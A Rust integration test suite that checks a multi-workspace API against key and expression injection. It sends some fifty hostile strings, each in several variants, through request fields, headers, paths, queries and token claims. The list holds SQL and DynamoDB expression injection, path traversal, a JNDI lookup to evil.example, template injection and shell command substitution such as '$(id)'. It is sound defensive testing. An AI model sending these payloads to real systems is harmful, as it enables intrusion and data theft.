//! Texts that would mean something to the table: as keys, in expressions, as types.

use std::collections::BTreeMap;

use axum::Router;
use reqwest::Method;
use serde_json::{Value, json};
use tests::{Answer, Caller, World, send};

use super::route::{Operation, Place, inside, protected};

/// What a payload is made of.
const CORES: [&str; 50] = [
    "#",
    "##",
    "W#ws_b",
    "W#ws_b#A",
    "A#",
    "A#acc_01JD0000000000000000000000",
    "G#ws_b#x#1",
    "R#grant_01JD0000000000000000000000",
    "S#1",
    "../ws_b",
    "..%2fws_b",
    "ws_b/../ws_a",
    "ws_b\u{0}",
    "\u{0}",
    "\u{1}\u{1f}",
    "\n",
    "a\r\nb",
    "ws_b ",
    " ws_b",
    "ws\u{200b}_b",
    "ws_\u{431}",
    "\u{ff57}s_b",
    "\u{202e}b_sw",
    "\u{10ffff}",
    ":ws",
    ":v OR :v = :v",
    "#state",
    "attribute_not_exists(pk)",
    "attribute_exists(pk) OR workspace = :ws",
    "begins_with(pk, :p)",
    "contains(pk, W)",
    "size(pk) > :z",
    "SET plan = :p",
    "ADD n :adding",
    "REMOVE n",
    "pk = :pk AND sk = :sk",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "1; DROP TABLE items--",
    "SELECT * FROM \"mooring\"",
    "{\"S\":\"W#ws_b\"}",
    "{\"NULL\":true}",
    "{\"$gt\":\"\"}",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "%s%n%x",
    "`id`",
    "$(id)",
    "NULL",
    "true",
];

/// Two hundred of them: each core alone, in a place, behind a delimiter and very long.
fn payloads() -> Vec<String> {
    let all = CORES.iter().flat_map(|core| {
        [(*core).to_owned(), format!("x{core}x"), format!("x#{core}"), core.repeat(2048 / core.len() + 1)]
    });
    all.collect()
}

/// As a part of an address.
fn encoded(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_".contains(&byte);
    text.bytes().map(|b| if plain(b) { char::from(b).to_string() } else { format!("%{b:02X}") }).collect()
}

/// Two workspaces, one of which is attacked from the other.
struct Ground {
    world: World,
    router: Router,
    owner: Caller,
    place: Place,
    their: Place,
    /// What the other one has.
    theirs: BTreeMap<String, Value>,
}

impl Ground {
    async fn make() -> Self {
        let world = World::start().await;
        let their = Place::make(&world, "ws_b").await;
        let place = Place::make(&world, "ws_a").await;
        let (router, owner) = (world.stack.router(), world.owner("ws_a"));
        let theirs = theirs(&world).await;
        assert!(theirs.len() > 5, "{theirs:?}");
        Self { world, router, owner, place, their, theirs }
    }

    async fn call(&self, method: Method, path: &str, body: Option<&Value>) -> Answer {
        let answer = inside(&self.router, &self.owner, method, path, body).await;
        assert!(answer.status < 500, "{path} {body:?}: {}", answer.text);
        for id in [&self.their.account, &self.their.session, &self.their.candidate] {
            assert!(!answer.text.contains(id), "{path} {body:?}: {}", answer.text);
        }
        answer
    }

    /// The other workspace is as it was, and no payload became a key.
    async fn holds(self) {
        assert_eq!(theirs(&self.world).await, self.theirs);
        for key in self.world.dump().await.keys() {
            let (pk, sk) = key.split_once(' ').expect("two parts");
            let plain = |c: char| c.is_ascii_alphanumeric() || "_-#".contains(c);
            let kind = pk.split('#').next().unwrap_or_default();
            let parts = match kind {
                "W" | "R" | "S" | "P" | "Y" | "Z" => 2,
                "O" => 1,
                "G" => 4,
                _ => 0,
            };
            // What is counted of a budget names app, budget, window and workspace.
            let most = if sk.starts_with('Q') && pk == "O" { 5 } else { 3 };
            let fits = pk.split('#').count() == parts && sk.split('#').count() <= most && key.len() < 200;
            assert!(fits && pk.chars().all(plain) && sk.chars().all(plain), "{key}");
        }
    }
}

async fn theirs(world: &World) -> BTreeMap<String, Value> {
    let dump = world.dump().await;
    dump.into_iter().filter(|(key, item)| key.starts_with("W#ws_b ") || item["workspace"] == "ws_b").collect()
}

/// CHK-P11: each text of a new session.
#[tokio::test(flavor = "multi_thread")]
async fn no_text_of_a_body_means_anything_to_the_table() {
    let ground = Ground::make().await;
    let path = "/v1/workspaces/ws_a/connect-sessions";
    let fields = [
        "platform",
        "method",
        "capabilities",
        "expected_handle",
        "expected_platform_account_id",
        "account_id",
        "return_url",
        "external_id",
        "ttl",
    ];
    for payload in payloads() {
        for field in fields {
            let mut body = json!({"platform": "x"});
            body[field] = if field == "capabilities" { json!([payload]) } else { json!(payload) };
            let answer = ground.call(Method::POST, path, Some(&body)).await;
            let taken = answer.status == 201;
            let free = matches!(field, "expected_handle" | "expected_platform_account_id" | "external_id");
            assert!(!taken || free, "{field} {payload:?}: {}", answer.text);
            if taken && field == "external_id" {
                let path = format!("/v1/connect-sessions/{}", answer.body["id"].as_str().expect("an id"));
                let session = ground.call(Method::GET, &path, None).await;
                assert_eq!(session.body["external_id"], payload, "as it was sent");
            }
        }
    }
    ground.holds().await;
}

/// CHK-P11: what is chosen, why something is ended, and the headers that become keys.
#[tokio::test(flavor = "multi_thread")]
async fn no_other_text_of_a_call_means_anything_to_the_table() {
    let ground = Ground::make().await;
    let selection = format!("/v1/connect-sessions/{}/selection", ground.place.session);
    let disconnect = format!("/v1/accounts/{}/disconnect", ground.place.account);
    for payload in payloads() {
        let chosen = ground.call(Method::POST, &selection, Some(&json!({"candidate_ids": [payload]}))).await;
        chosen.is_problem(422, "candidate_not_selectable");
        // On an account that is disconnected after the first one, a reason is still only a text.
        ground.call(Method::POST, &disconnect, Some(&json!({"reason": payload}))).await;
        for name in ["idempotency-key", "if-match"] {
            let call = ground.owner.call(Method::POST, "/v1/workspaces/ws_a/connect-sessions");
            let Ok(value) = reqwest::header::HeaderValue::from_bytes(payload.as_bytes()) else { continue };
            let answer = send(call.header(name, value).json(&json!({"platform": "x"}))).await;
            assert!(matches!(answer.status, 201 | 400), "{name} {payload:?}: {}", answer.text);
        }
    }
    ground.holds().await;
}

/// CHK-P11: each part of each address, and each parameter.
#[tokio::test(flavor = "multi_thread")]
async fn no_part_of_an_address_means_anything_to_the_table() {
    let ground = Ground::make().await;
    let operations = protected(&ground.world).await;
    let reads: Vec<&Operation> = operations.iter().filter(|o| !o.changes()).collect();
    let body = |operation: &Operation| ground.place.body(operation);
    for payload in payloads() {
        let payload = encoded(&payload);
        for operation in &reads {
            for name in operation.parameters() {
                let path = operation.path.replace(&format!("{{{name}}}"), &payload);
                let path = ground.place.path(&Operation { path, ..(*operation).clone() });
                let answer = ground.call(Method::GET, &path, None).await;
                answer.is_problem(404, "not_found");
            }
        }
        for query in ["platform", "lifecycle", "cursor", "limit"] {
            let path = format!("/v1/workspaces/ws_a/accounts?{query}={payload}");
            let answer = ground.call(Method::GET, &path, None).await;
            let nobody = answer.status == 200 && query == "platform" && answer.body["data"] == json!([]);
            assert!(answer.status == 400 || answer.status == 422 || nobody, "{path}: {}", answer.text);
        }
        for path in ["/v1/oauth/start/{p}", "/v1/oauth/callback/{p}?state=cs_1.x&code=c", "/docs/errors/{p}"] {
            let answer = ground.call(Method::GET, &path.replace("{p}", &payload), None).await;
            assert!(matches!(answer.status, 400 | 404), "{path} {payload}: {}", answer.text);
        }
        let state = format!("/v1/oauth/callback/x?state={payload}&code={payload}");
        ground.call(Method::GET, &state, None).await.is_problem(400, "state_invalid");
    }
    // What changes something is looked up in the same way; a few are enough.
    for payload in CORES.map(encoded) {
        for operation in operations.iter().filter(|o| o.changes()) {
            for name in operation.parameters() {
                let path = operation.path.replace(&format!("{{{name}}}"), &payload);
                let path = ground.place.path(&Operation { path, ..operation.clone() });
                let answer = ground.call(operation.method.clone(), &path, body(operation).as_ref()).await;
                answer.is_problem(404, "not_found");
            }
        }
    }
    ground.holds().await;
}

/// CHK-P11: what the issuer signed is not believed to be a legal id either.
#[tokio::test(flavor = "multi_thread")]
async fn no_claim_means_anything_to_the_table() {
    let ground = Ground::make().await;
    for payload in payloads() {
        for claim in ["ws", "org", "sub", "name", "plan", "role"] {
            let mut claims = json!({"ws": "ws_a", "role": "owner", "sub": "somebody"});
            claims[claim] = json!(payload);
            let caller = ground.world.caller(claims);
            let path = "/v1/workspaces/ws_a/accounts";
            let answer = inside(&ground.router, &caller, Method::GET, path, None).await;
            let legal = payload.bytes().all(|b| b.is_ascii_alphanumeric() || b"_-".contains(&b)) && payload.len() <= 64;
            match claim {
                // A workspace of that name is another one.
                "ws" => assert_eq!(answer.status, if legal { 404 } else { 401 }, "{payload:?}"),
                "org" => assert_eq!(answer.status, if legal { 200 } else { 401 }, "{payload:?}"),
                "role" => assert_eq!(answer.status, 401, "{payload:?}"),
                _ => assert!(matches!(answer.status, 200 | 401), "{claim} {payload:?}: {}", answer.text),
            }
        }
    }
    ground.holds().await;
}
